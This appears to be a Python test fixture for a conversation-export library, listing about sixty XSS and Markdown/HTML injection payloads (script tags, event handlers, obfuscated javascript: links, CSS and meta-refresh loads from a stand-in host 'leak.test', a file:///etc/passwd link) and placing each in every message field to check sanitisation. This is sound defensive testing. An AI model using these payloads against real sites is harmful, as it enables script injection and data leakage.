"""What a hostile model or person may write to get something to run or to load in an exported page."""

from __future__ import annotations

from typing import TYPE_CHECKING

from convostore.parts import (
    AttachmentPart,
    OpaquePart,
    ReasoningPart,
    TextPart,
    ToolCallPart,
    ToolResultPart,
)
from convostore.records import ConversationDossier, ConversationRecord, ErrorRecord, Message

if TYPE_CHECKING:
    from collections.abc import Iterator

    from convostore.parts import Part

_DONE = "document.title='PWNED'"
TEXTS = (
    f"<script>{_DONE}</script>",
    "<script src=http://leak.test/a.js></script>",
    f'<img src=x onerror="{_DONE}">',
    f"<svg/onload={_DONE}>",
    f"<svg><script>{_DONE}</script></svg>",
    f"<svg><animate onbegin={_DONE} attributeName=x></svg>",
    f'<math><mi//xlink:href="data:x,<script>{_DONE}</script>">',
    f'<iframe srcdoc="<script>parent.{_DONE}</script>"></iframe>',
    "<iframe src=http://leak.test/b></iframe>",
    f"<body onload={_DONE}>",
    f"<details open ontoggle={_DONE}>",
    f"<input autofocus onfocus={_DONE}>",
    f"<video><source onerror={_DONE}></video>",
    "<object data=http://leak.test/c></object><embed src=http://leak.test/d>",
    "<link rel=stylesheet href=http://leak.test/e.css>",
    "<style>@import url(http://leak.test/f.css);*{background:url(http://leak.test/g)}</style>",
    "</style><script>document.title='PWNED'</script>",
    "</title><script>document.title='PWNED'</script>",
    '<meta http-equiv=refresh content="0;url=http://leak.test/h">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<base href=http://leak.test/>",
    "<form action=http://leak.test/i><button>x</button></form>",
    "<!--><script>document.title='PWNED'</script>-->",
    "<![CDATA[<script>document.title='PWNED'</script>]]>",
    "--></section></div></main><script>document.title='PWNED'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='PWNED'>\">",
    f"[click](javascript:{_DONE})",
    f"[click](JaVaScRiPt:{_DONE})",
    "[click](java&#115;cript:document.title='PWNED')",
    "[click](&#x6A;avascript&colon;document.title='PWNED')",
    "[click](\x01javascript:document.title='PWNED')",
    "[click](java\tscript:document.title='PWNED')",
    "[click](<javascript:document.title='PWNED'>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+)",
    "[click](file:///etc/passwd)",
    "[click](//leak.test/j)",
    "<javascript:document.title='PWNED'>",
    "[a]: javascript:document.title='PWNED'\n\n[a]",
    "![x](http://leak.test/k.png)",
    "![x](javascript:document.title='PWNED')",
    "![x](data:image/svg+xml,<svg onload=document.title='PWNED'>)",
    "![x](http://leak.test/l.png \"a\\\" onerror=document.title='PWNED' b=\\\"\")",
    "[x](http://a.test/\" onmouseover=\"document.title='PWNED')",
    "[x](http://a.test/ \"t\\\" onmouseover=\\\"document.title='PWNED'\")",
    "<http://a.test/\"onmouseover=document.title='PWNED'>",
    "```html\" onmouseover=\"document.title='PWNED'\n</code></pre><script>1</script>\n```",
    "```\n</code></pre><script>document.title='PWNED'</script>",
    "`</code><script>document.title='PWNED'</script>`",
    "| a |\n|---|\n| <img src=x onerror=document.title='PWNED'> |",
    "<scr\x00ipt>document.title='PWNED'</scr\x00ipt>".replace("\x00", "\x0c"),
    "\u202e<script>document.title='PWNED'</script>\u2066",
    "\uff1cscript\uff1edocument.title='PWNED'\uff1c/script\uff1e",
    "\u2028<script>document.title='PWNED'</script>\u2029",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
    "\" autofocus onfocus=\"document.title='PWNED'",
    "' autofocus onfocus='document.title=1",
    "{{constructor.constructor('document.title=1')()}}",
    "[" * 2_000 + "](" * 2_000,
    "> " * 500 + "<script>document.title='PWNED'</script>",
)  # fmt: skip


def conversation() -> tuple[ConversationDossier, list[Message]]:
    """Make a conversation that has every text in every place where somebody may write one."""
    messages: list[Message] = []
    for text in TEXTS:
        for role in ("user", "assistant"):
            seq = len(messages) + 1
            messages.append(
                Message(
                    role,
                    text,
                    id=f"m{seq}",
                    seq=seq,
                    parent_seq=seq - 2 if seq > 2 else None,  # two branches, all the way down
                    parts=tuple(_parts(text)) if role == "assistant" else (TextPart(text),),
                    author=text,
                    model=text,
                    status="failed",
                    error=ErrorRecord(code=text, message=text),
                    created_at_ms=1,
                )
            )
    record = ConversationRecord(
        id="c",
        handle="00000000",
        title=" ".join(TEXTS[:28]),
        model=TEXTS[0],
        folder=TEXTS[2],
        tags=TEXTS[:28],
        head_seq=len(messages),
        last_seq=len(messages),
        message_count=len(messages),
    )
    return ConversationDossier(record=record), messages


def _parts(text: str) -> Iterator[Part]:
    yield TextPart(text)
    yield ReasoningPart(text)
    yield ToolCallPart(text, text, text)
    yield ToolResultPart(text, text, text)
    yield OpaquePart(text, {text: [text]})
    yield AttachmentPart("ab" * 32, 3, text, text)
    yield AttachmentPart("ab" * 32, 3, "image/svg+xml", text)
    yield AttachmentPart("ab" * 32, 3, "image/png", text)
